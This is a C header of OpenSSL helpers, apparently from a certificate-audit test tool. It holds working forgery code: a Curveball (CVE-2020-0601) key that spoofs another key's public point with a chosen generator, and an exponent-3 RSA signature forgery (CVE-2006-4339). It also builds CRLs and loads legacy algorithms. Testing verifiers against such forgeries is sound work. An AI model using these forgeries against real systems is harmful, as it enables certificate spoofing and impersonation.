// What an audit's CA makes and no sound one does, and what that says of it. Deprecated functions are used where
// nothing has replaced them.
#ifndef SALLYPORT_COPENSSL_FORGERIES_H
#define SALLYPORT_COPENSSL_FORGERIES_H

#include <openssl/bn.h>
#include <openssl/core_names.h>
#include <openssl/ec.h>
#include <openssl/evp.h>
#include <openssl/provider.h>
#include <openssl/x509.h>
#include <openssl/x509v3.h>
#include <string.h>

// Makes a key with another's public point, on that key's curve with a generator of our own: half of
// the point, so that 2 is the private key (CVE-2020-0601). Nothing of the other's but its public
// half is used. NULL for a key on no curve over a prime field.
static inline EVP_PKEY *openssl_generate_same_point(const EVP_PKEY *other) {
    const EC_KEY *theirs = EVP_PKEY_is_a(other, "EC") ? EVP_PKEY_get0_EC_KEY(other) : NULL;
    if (!theirs) return NULL;
    const EC_GROUP *curve = EC_KEY_get0_group(theirs);
    const EC_POINT *point = EC_KEY_get0_public_key(theirs);
    BN_CTX *context = BN_CTX_new();
    BIGNUM *prime = BN_new(), *a = BN_new(), *b = BN_new(), *half = BN_new(), *two = BN_new();
    EC_POINT *base = EC_POINT_new(curve);
    unsigned char *coded_base = NULL, *coded_point = NULL;
    EC_GROUP *own = NULL;
    EC_KEY *key = NULL;
    EVP_PKEY *made = NULL;
    // The order is an odd prime, so that (order + 1) / 2 is the inverse of 2.
    if (EC_GROUP_get_curve(curve, prime, a, b, context) && BN_copy(half, EC_GROUP_get0_order(curve)) &&
        BN_add_word(half, 1) && BN_rshift1(half, half) && BN_set_word(two, 2) &&
        EC_POINT_mul(curve, base, NULL, point, half, context)) {
        size_t base_size =
            EC_POINT_point2buf(curve, base, POINT_CONVERSION_UNCOMPRESSED, &coded_base, context);
        size_t point_size =
            EC_POINT_point2buf(curve, point, POINT_CONVERSION_UNCOMPRESSED, &coded_point, context);
        // A group without a name: one with a name would be written as that.
        own = EC_GROUP_new_curve_GFp(prime, a, b, context);
        EC_POINT *own_base = own ? EC_POINT_new(own) : NULL;
        EC_POINT *own_point = own ? EC_POINT_new(own) : NULL;
        key = EC_KEY_new();
        if (own_base && own_point && key &&
            EC_POINT_oct2point(own, own_base, coded_base, base_size, context) &&
            EC_POINT_oct2point(own, own_point, coded_point, point_size, context) &&
            EC_GROUP_set_generator(own, own_base, EC_GROUP_get0_order(curve),
                                   EC_GROUP_get0_cofactor(curve))) {
            EC_GROUP_set_asn1_flag(own, OPENSSL_EC_EXPLICIT_CURVE);
            made = EVP_PKEY_new();
            if (EC_KEY_set_group(key, own) && EC_KEY_set_private_key(key, two) &&
                EC_KEY_set_public_key(key, own_point) && made && EVP_PKEY_assign_EC_KEY(made, key)) {
                key = NULL;
            } else {
                EVP_PKEY_free(made);
                made = NULL;
            }
        }
        EC_POINT_free(own_base);
        EC_POINT_free(own_point);
    }
    EC_KEY_free(key);
    EC_GROUP_free(own);
    OPENSSL_free(coded_base);
    OPENSSL_free(coded_point);
    EC_POINT_free(base);
    BN_free(prime);
    BN_free(a);
    BN_free(b);
    BN_free(half);
    BN_free(two);
    BN_CTX_free(context);
    return made;
}

// Replaces a certificate's RSA signature (SHA-256, PKCS #1 v1.5) with one that is made without the
// issuer's private key, for its exponent 3: a cube root whose cube begins like a signature with too
// little padding, and ends in whatever it ends in (CVE-2006-4339). Returns 0 for another key.
static inline int openssl_forge_signature(X509 *certificate, const EVP_PKEY *issuer) {
    static const unsigned char identifier[] = {0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01,
                                               0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20};
    enum { padding = 8, start = 2 + padding + 1, end = start + sizeof identifier + 32 };
    unsigned char block[1024] = {0}, *content = NULL;
    size_t size = EVP_PKEY_get_size(issuer);
    const ASN1_BIT_STRING *signature = NULL;
    BIGNUM *exponent = NULL;
    int count = i2d_re_X509_tbs(certificate, &content), status = 0;
    // The root has a third of the bits, and its cube is right in the first two thirds of these.
    int is_weak = EVP_PKEY_get_bn_param(issuer, OSSL_PKEY_PARAM_RSA_E, &exponent) &&
                  BN_is_word(exponent, 3) && size <= sizeof block && size / 3 >= end;
    if (is_weak && count > 0) {
        block[1] = 1;
        memset(block + 2, 0xFF, padding);
        memcpy(block + start, identifier, sizeof identifier);
        EVP_Digest(content, count, block + end - 32, NULL, EVP_sha256(), NULL);
        BN_CTX *context = BN_CTX_new();
        BIGNUM *wanted = BN_bin2bn(block, (int)size, NULL), *root = BN_new(), *cube = BN_new();
        for (int bit = (int)size * 8 / 3 + 1; bit >= 0; bit--) {
            BN_set_bit(root, bit);
            BN_sqr(cube, root, context);
            BN_mul(cube, cube, root, context);
            if (BN_cmp(cube, wanted) >= 0) BN_clear_bit(root, bit);
        }
        BN_add_word(root, 1);
        X509_get0_signature(&signature, NULL, certificate);
        status = BN_bn2binpad(root, block, (int)size) == (int)size &&
                 ASN1_STRING_set((ASN1_BIT_STRING *)signature, block, (int)size);
        BN_free(wanted);
        BN_free(root);
        BN_free(cube);
        BN_CTX_free(context);
    }
    BN_free(exponent);
    OPENSSL_free(content);
    return status;
}

// Makes a library that knows what OpenSSL has retired, such as MD4; NULL where that is not installed.
static inline OSSL_LIB_CTX *openssl_library_with_legacy(void) {
    OSSL_LIB_CTX *made = OSSL_LIB_CTX_new();
    if (made && OSSL_PROVIDER_load(made, "default") && OSSL_PROVIDER_load(made, "legacy")) return made;
    OSSL_LIB_CTX_free(made);
    return NULL;
}

// Writes a list with one revoked certificate, of the last hour and for the next three days, and
// returns its size; 0 if the key cannot sign it.
static inline int openssl_revocation_list(const X509 *certificate, const X509 *issuer, EVP_PKEY *key,
                                          unsigned char **to) {
    X509_CRL *list = X509_CRL_new();
    X509_REVOKED *entry = X509_REVOKED_new();
    ASN1_TIME *begin = X509_gmtime_adj(NULL, -3600), *end = X509_gmtime_adj(NULL, 72 * 3600);
    ASN1_TIME *since = X509_gmtime_adj(NULL, -30 * 3600);
    ASN1_ENUMERATED *reason = ASN1_ENUMERATED_new();
    ASN1_INTEGER *number = ASN1_INTEGER_new();
    X509V3_CTX context;
    int size = 0;
    X509V3_set_ctx(&context, (X509 *)issuer, NULL, NULL, list, 0);
    X509_EXTENSION *identifier =
        X509V3_EXT_conf_nid(NULL, &context, NID_authority_key_identifier, "keyid:always");
    ASN1_ENUMERATED_set(reason, CRL_REASON_KEY_COMPROMISE);
    ASN1_INTEGER_set(number, 1);
    if (X509_REVOKED_set_serialNumber(entry, (ASN1_INTEGER *)X509_get0_serialNumber(certificate)) &&
        X509_REVOKED_set_revocationDate(entry, since) &&
        X509_REVOKED_add1_ext_i2d(entry, NID_crl_reason, reason, 0, 0) && X509_CRL_set_version(list, 1) &&
        X509_CRL_set_issuer_name(list, X509_get_subject_name(issuer)) &&
        X509_CRL_set1_lastUpdate(list, begin) && X509_CRL_set1_nextUpdate(list, end) &&
        X509_CRL_add1_ext_i2d(list, NID_crl_number, number, 0, 0) &&
        (!identifier || X509_CRL_add_ext(list, identifier, -1)) && X509_CRL_add0_revoked(list, entry)) {
        entry = NULL;
        if (X509_CRL_sign(list, key, EVP_sha256()) > 0) size = i2d_X509_CRL(list, to);
    }
    X509_EXTENSION_free(identifier);
    ASN1_INTEGER_free(number);
    ASN1_ENUMERATED_free(reason);
    ASN1_TIME_free(begin);
    ASN1_TIME_free(end);
    ASN1_TIME_free(since);
    X509_REVOKED_free(entry);
    X509_CRL_free(list);
    return size > 0 ? size : 0;
}

#endif
